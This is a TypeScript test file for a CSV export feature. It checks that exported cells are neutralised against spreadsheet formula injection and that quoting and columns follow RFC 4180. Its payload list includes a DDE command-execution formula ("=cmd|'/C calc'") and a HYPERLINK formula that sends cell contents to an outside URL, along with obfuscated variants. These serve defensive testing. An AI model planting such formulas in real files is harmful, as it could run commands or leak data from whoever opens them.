import { describe, expect, test } from 'vitest'
import { csv, neutral } from '../../server/export/csv.ts'
import { render } from '../../server/export/render.ts'
import { report } from '../../server/export/report.ts'
import { board, card, decided, palaver, said, stage, text, wrote, type Palaver } from './export-fixture.ts'
import { richPalaver } from './export-rich.ts'

/** Ten ways to start a formula, each behind six kinds of cover. */
const STARTS = [
  "=cmd|'/C calc'!A0", '=1+1', '+1+1', '-1+1', '@SUM(A1:A9)', '=HYPERLINK("http://example.org?"&A1,"x")', '＝1+1', '＋1', '－1', '＠SUM(A1)',
]
const COVERS = ['', '  ', '\u00A0', '\u200B\u2003', 'a harmless line\n', 'x;\u3000']
const PAYLOADS = STARTS.flatMap((start) => COVERS.map((cover) => cover + start))

describe('a sheet', () => {
  test.each(PAYLOADS)('[X2] calculates nothing: %j', (payload) => {
    const it = hostile(payload)
    for (const name of ['decisions', 'cards', 'map', 'journal']) {
      const sheet = out(it, name)
      for (const cell of parse(sheet, ',').flat()) expect(calculates(cell)).toBe(false)
      // As a French spreadsheet splits it, and as one that minds no quotes.
      for (const cell of parse(sheet, ';').flat()) expect(calculates(cell)).toBe(false)
      for (const cell of sheet.split(/[\r\n;\t]/)) expect(calculates(cell.replace(/^\uFEFF?"/, ''))).toBe(false)
    }
  })

  test.each(['\t=1+1', '\r=1+1', '\tplain', '\rplain', '\n=1+1'])('[X2] no cell begins with a control character: %j', (payload) => {
    expect(neutral(payload)).toMatch(/^'/)
  })

  test('[X2] leaves harmless words as they are, signs inside of them too', () => {
    for (const words of ['1 + 1 = 2', 'a-b', 'écrire @ tous', 'نعم', 'it’s', "'quoted'", '5 %', 'one\ntwo']) expect(neutral(words)).toBe(words)
  })

  test('begins with a byte-order mark, quotes every cell and ends its lines as RFC 4180 says', () => {
    const sheet = csv(['a', 'b'], [{ a: 'say "hi"', b: 7 }, { a: 'two\nlines, one cell', b: '' }])
    expect(sheet).toBe('\uFEFF"a","b"\r\n"say ""hi""","7"\r\n"two\nlines, one cell",""\r\n')
    expect(parse(sheet, ',')).toEqual([['a', 'b'], ['say "hi"', '7'], ['two\nlines, one cell', '']])
  })

  test('reads back as a table in which every row has every column', () => {
    for (const name of ['decisions', 'cards', 'map', 'journal']) {
      const [head, ...rows] = parse(out(richPalaver(), name), ',')
      expect(rows.length).toBeGreaterThan(1)
      for (const row of rows) expect(row).toHaveLength(head!.length)
    }
  })

  test('of decisions has one row for each, with words, counts and what replaced it', () => {
    const rows = records(out(richPalaver(), 'decisions'))
    expect(rows).toHaveLength(12)
    expect(rows[2]).toMatchObject({ decision_id: 'D-003', rule: 'consent', unit: 'organisation', quorum_required: '66', eligible: '6', consent: '5', reservation: '1', status: 'adopted' })
    expect(rows[2]!['datetime']).toBe('2026-03-12T12:03:00.000Z')
    expect(rows[2]!['final_text']).toContain('نصفها من النساء (12 قرية)')
    expect(rows[0]).toMatchObject({ rule: 'aloud', quorum_required: '', consent: '' })
    expect(rows[8]).toMatchObject({ decision_id: 'D-009', reopened_by: 'D-010' })
  })

  test('of cards names cluster, organisation where shown, origin and decision', () => {
    let it = stage(palaver('Waters', 'Growers'), 'aims', 'wall', 'objectives', 'Aims')
    it = board(it, 'aims', {
      cards: [
        card('c1', 'Clean water', { parent: 'c9' as never, origin: 'gndr-collective-scale', order: 'a1' }),
        card('c9', 'Health', { kind: 'cluster', order: 'a0' }),
      ],
    })
    it = wrote(it, 1, 'c1')
    it = decided(it, 'aims', 'Consent?', [text('c1', 'objectives', '', 'Clean water')])
    expect(records(out(it, 'cards')).map((each) => [each['card_id'], each['cluster'], each['author_org'], each['decision_id']])).toEqual([
      ['c9', '', '', ''],
      ['c1', 'Health', 'Growers', 'D-001'],
    ])
  })

  test('of the map has the answer and the state, and nothing that was withdrawn', () => {
    let it = said(palaver('Waters', 'Growers', 'Health NGO'), 'expectation', 1, 2, 'Readings', 'try', 'From June')
    it = said(it, 'offer', 2, 1, 'Withdrawn')
    const withdrawn = it.session.statements['statement-2']!
    it = { ...it, session: { ...it.session, statements: { ...it.session.statements, 'statement-2': { ...withdrawn, withdrawn: true } } } }
    expect(records(out(it, 'map'))).toEqual([
      { from_org: 'Growers', to_org: 'Health NGO', kind: 'expectation', resource_id: '', text: 'Readings', answer: 'try', state: 'partly', follow_up: 'From June' },
    ])
  })
})

function hostile(words: string): Palaver {
  let it = palaver(words, words, 'Partner')
  it = stage(it, 'plan', 'plan', 'plan', words)
  it = decided(it, 'plan', words, [text('t1', 'plan', words, words, [words])], { note: words })
  it = said(it, 'expectation', 1, 2, words, 'no', words)
  const person = it.session.participants['person-1']!
  it = { ...it, session: { ...it.session, participants: { ...it.session.participants, 'person-1': { ...person, name: words } } } }
  return board(it, 'plan', { cards: [card('c1', words, { kind: 'cluster' }), card('c2', words, { parent: 'c1' as never })] })
}

function out(it: Palaver, name: string): string {
  return render(name, 'csv', report(it.session, it.entries, it.boards, 'fr', 0))!.body
}

/** What a spreadsheet might take for a formula, read generously. */
function calculates(cell: string): boolean {
  return /^[\s\p{Z}\p{Cf}"]*[=+\-@＝＋－＠]/u.test(cell)
}

/** A small reader of RFC 4180, so that the writer is not checked by itself. */
function parse(sheet: string, separator: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  const text = sheet.replace(/^\uFEFF/, '')
  for (let at = 0; at < text.length; at++) {
    const sign = text[at]!
    if (quoted) {
      if (sign === '"' && text[at + 1] === '"') cell += text[at++]
      else if (sign === '"') quoted = false
      else cell += sign
    } else if (sign === '"') quoted = true
    else if (sign === separator) {
      rows.at(-1)!.push(cell)
      cell = ''
    } else if (sign === '\r' && text[at + 1] === '\n') {
      rows.at(-1)!.push(cell)
      rows.push([])
      cell = ''
      at++
    } else cell += sign
  }
  return rows.slice(0, -1)
}

function records(sheet: string): readonly Readonly<Record<string, string>>[] {
  const [head, ...rows] = parse(sheet, ',')
  return rows.map((row) => Object.fromEntries(row.map((cell, at) => [head![at]!, cell])))
}
